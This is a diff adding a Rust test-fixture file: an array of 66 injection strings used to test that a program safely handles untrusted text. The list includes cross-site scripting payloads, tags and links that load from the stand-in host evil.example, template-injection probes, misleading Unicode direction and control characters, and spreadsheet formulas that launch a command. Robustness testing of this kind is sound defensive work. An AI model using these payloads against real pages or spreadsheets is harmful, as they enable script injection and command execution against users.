@@ -1,0 +1,82 @@
+//! Text that has broken other programs' pages, tables and documents: script, handlers, addresses, templates, style,
+//! mark-up of every kind, entities, directions, widths, controls, formulas. Each is tried in every field of a brief.
+
+/// Each stands for a family; the last are whole stories in one.
+pub const PAYLOADS: [&str; 66] = [
+    // Script and what begins it.
+    "<script>window.hit=1</script>",
+    "</title><script>window.hit=1</script>",
+    "</style><script>window.hit=1</script>",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    "<script src=\"data:text/javascript,window.hit=1\"></script>",
+    "\"><script>window.hit=1</script>",
+    "'><script>window.hit=1</script>",
+    "--><script>window.hit=1</script><!--",
+    "]]><script>window.hit=1</script>",
+    "<![CDATA[<script>window.hit=1</script>]]>",
+    "<noscript><p title=\"</noscript><img src=x onerror=window.hit=1>\">",
+    "<textarea></textarea><script>window.hit=1</script>",
+    // Handlers and elements that fetch.
+    "<img src=x onerror=window.hit=1>",
+    "<img src=\"https://evil.example/pixel.png\">",
+    "\" onmouseover=\"window.hit=1\" autofocus onfocus=\"window.hit=1",
+    "' autofocus onfocus='window.hit=1",
+    "<body onload=window.hit=1>",
+    "<iframe src=\"https://evil.example\"></iframe>",
+    "<iframe srcdoc=\"<script>parent.hit=1</script>\">",
+    "<object data=\"https://evil.example/x.swf\"></object><embed src=//evil.example>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
+    "<base href=https://evil.example/>",
+    "<form action=https://evil.example><input autofocus onfocus=window.hit=1></form>",
+    "<video><source onerror=window.hit=1></video>",
+    "<details open ontoggle=window.hit=1>",
+    "<template><p>x</template><slot>",
+    "<dialog open>over everything</dialog>",
+    "<marquee behavior=alternate>runs</marquee>",
+    // Addresses.
+    "javascript:window.hit=1",
+    "[click](javascript:window.hit=1)",
+    "data:text/html,<script>window.hit=1</script>",
+    "//evil.example/x?\"'><",
+    "https://evil.example/ www.evil.example mailto:a@evil.example",
+    // Other mark-up inside.
+    "<svg onload=window.hit=1><script>window.hit=1</script></svg>",
+    "<svg><foreignObject><iframe src=//evil.example></foreignObject></svg>",
+    "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=x onerror=window.hit=1>\">",
+    "</svg></p></blockquote></section></main></body></html>",
+    // Style.
+    "<style>*{display:none}@import 'https://evil.example/x.css'</style>",
+    "\" style=\"position:fixed;inset:0;background:url(https://evil.example)",
+    "</style><style>body{display:none}",
+    "expression(window.hit=1);behavior:url(#x)",
+    // Templates.
+    "{{ 7*7 }}{% for x in range(9999999) %}x{% endfor %}{# x #}",
+    "{{ sheet.persona | safe }}{% include 'style.css' %}",
+    "${7*7}#{7*7}<%= 7*7 %>[[${7*7}]]",
+    // Entities.
+    "&lt;script&gt;window.hit=1&lt;/script&gt;",
+    "&#60;script&#62;window.hit=1&#60;/script&#62;&#x3c;img src=x&#x3e;",
+    "&nbsp;&NewLine;&colon;&lpar;&zwj;&#0;&#x202e;&bogus;",
+    // Directions, nothing and too much.
+    "\u{202e}gnp.exe\u{202c} \u{2066}\u{2067}x\u{2069} \u{200f}\u{200e}\u{61c}",
+    "a\u{200b}b\u{200c}c\u{200d}d\u{2060}e\u{feff}f\u{ad}g\u{180e}h",
+    "Z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30a}\u{30b}\u{30c}\u{30d}\u{30e}\u{30f}\u{310}\u{311}a\u{316}\u{317}\u{318}\u{319}\u{31a}\u{31b}\u{31c}\u{31d}\u{31e}\u{31f}\u{320}\u{321}",
+    "\u{338}>\u{338}<\u{338}=\u{338}",
+    "\u{0}\u{1}\u{7}\u{8}\u{b}\u{c}\u{1b}[31m\u{7f}\u{85}\u{9b}",
+    "one\r\ntwo\u{2028}three\u{2029}four\tfive",
+    "\u{fdd0}\u{fffe}\u{1ffff}\u{e0041}\u{e007f}\u{fff9}x\u{fffb}",
+    "WWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWW",
+    "가나다라마바사아자차카타파하가나다라마바사아자차카타파하가나다라마바사아자차카타파하가나다라마바사아자차카타파하가나다라마바사아자차카타파하가나다라마바사아자차카타파하가나다라마바사아자차카타파하가나다라마바사아자차카타파하가나다라마바사아자차카타파하",
+    "﷽﷽﷽﷽﷽﷽ ௵௵௵௵ 𒐫𒐫𒐫𒐫 👩‍👩‍👧‍👦👩‍👩‍👧‍👦👩‍👩‍👧‍👦 ꧅꧅꧅꧅",
+    // Formulas of spreadsheets.
+    "=cmd|' /C calc'!A0",
+    "+1+1;@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)\",=HYPERLINK(\"\"https://evil.example\"\")",
+    "＝1+1＋2－3＠4",
+    // Structure of Markdown.
+    "# heading\n\n---\n\n| a | b |\n|---|---|\n| ``` | ~~~ |",
+    "1. *a* _b_ `c` ~~d~~ ![x](https://evil.example/x.png) [ref]: https://evil.example \"t\" <b>",
+    "> quote\n- [ ] task\n```html\n<script>window.hit=1</script>\n```\n***\n===\n: def [^1]",
+];
